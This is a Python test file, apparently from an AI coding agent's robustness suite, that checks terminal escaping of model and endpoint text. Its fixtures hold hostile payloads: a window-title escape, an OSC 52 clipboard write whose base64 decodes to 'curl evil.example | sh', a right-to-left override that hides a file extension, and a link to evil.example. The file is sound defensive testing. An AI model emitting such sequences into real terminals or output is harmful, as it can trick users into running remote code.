"""Issue 19, finding 8: model and endpoint text reaches the terminal escaped on every path: the
compaction failure's reason (an endpoint's error body), /context's tool names, command output,
-p's answer on a terminal (raw into a pipe), and links, which show their real target."""

from __future__ import annotations

import re
import sys
from io import StringIO

import pexpect
from pydantic_ai.messages import ModelRequest, ModelResponse, ToolCallPart, ToolReturnPart
from rich.console import Console

from agent.events import CompactionFailed, TextDelta, ToolResult
from tests.fake_openai import Text
from tests.pty_kit import Screen, ask, leave, started
from tests.robustness.harness import MAIN, agent_env, run_agent
from ui.print_view import PrintRenderer
from ui.render import Renderer

TITLE = "\x1b]0;PWNED\x07"
CLIPBOARD = "\x1b]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaA==\x07"


def _drawn(*events: object) -> str:
    out = StringIO()
    renderer = Renderer(Console(file=out, width=100, force_terminal=True), "en")
    for event in events:
        renderer(event)
    renderer.end_answer()
    return out.getvalue()


def test_a_compaction_failure_shows_the_error_body_escaped(capsys):
    shown = _drawn(CompactionFailed("auto", f"HTTP 500: {TITLE}"))
    assert "\x1b]0" not in shown and "\\x1b]0;PWNED\\x07" in shown
    PrintRenderer("en")(CompactionFailed("auto", f"HTTP 500: {TITLE}"))
    assert "\x1b]0" not in capsys.readouterr().err


def test_command_output_shows_invisible_characters():
    shown = _drawn(ToolResult("c1", "run_command", "ok\u202eexe.txt\n[exit code: 0]"))
    assert "ok\\u202eexe.txt" in shown


def test_a_link_shows_its_real_target():
    shown = _drawn(TextDelta("See [the docs](https://evil.example/x) now.\n\n"))
    assert "\x1b]8;" not in shown
    assert "the docs (https://evil.example/x)" in re.sub(r"\x1b\[[0-9;?]*[A-Za-z]", "", shown)


def test_context_shows_a_tool_name_escaped(workspace, home, live_server):
    from tests.robustness.harness import prepare_session

    call = ToolCallPart(f"x{TITLE}", {}, tool_call_id="c1")
    retry = ToolReturnPart(f"x{TITLE}", "Unknown tool", tool_call_id="c1")
    session_id = prepare_session(
        home, workspace, [ModelRequest.user_text_prompt("hi"), ModelResponse([call]), ModelRequest([retry])]
    )
    child, screen = started(workspace, home, live_server, "--resume", session_id)
    ask(child, "/context", "PWNED", exact=True)
    assert screen.screen.title != "PWNED"
    assert screen.count("x\\x1b]0;PWNED\\x07"), "\n".join(screen.lines())
    leave(child, "/exit")


def test_print_mode_escapes_on_a_terminal_and_not_into_a_pipe(workspace, home, live_server):
    live_server.script(Text(f"answer {CLIPBOARD}"), Text(f"answer {CLIPBOARD}"))
    child = pexpect.spawn(
        sys.executable,
        [str(MAIN), "--base-url", live_server.base_url, "--lang", "en", "-p", "hi"],
        cwd=str(workspace),
        env=agent_env(home),
        encoding="utf-8",
        timeout=30,
    )
    child.expect(pexpect.EOF)
    assert "\x1b]52" not in child.before and "answer \\x1b]52;c;" in child.before
    piped = run_agent(workspace, home, live_server, "-p", "hi")
    assert piped.stdout.startswith(f"answer {CLIPBOARD}")  # a script gets the bytes as sent


def test_the_resume_picker_shows_a_preview_escaped(workspace, home, live_server):
    from pydantic_ai.messages import ModelRequest

    from tests.robustness.harness import prepare_session

    prepare_session(home, workspace, [ModelRequest.user_text_prompt(f"fix it{TITLE}")])
    child = pexpect.spawn(
        sys.executable,
        [str(MAIN), "--base-url", live_server.base_url, "--lang", "en", "--resume"],
        cwd=str(workspace),
        env=agent_env(home),
        encoding="utf-8",
        timeout=30,
        dimensions=(40, 140),
    )
    screen = Screen(child)
    child.expect_exact("fix it\\x1b]0;PWNED\\x07")
    assert screen.screen.title != "PWNED"
    child.close(force=True)
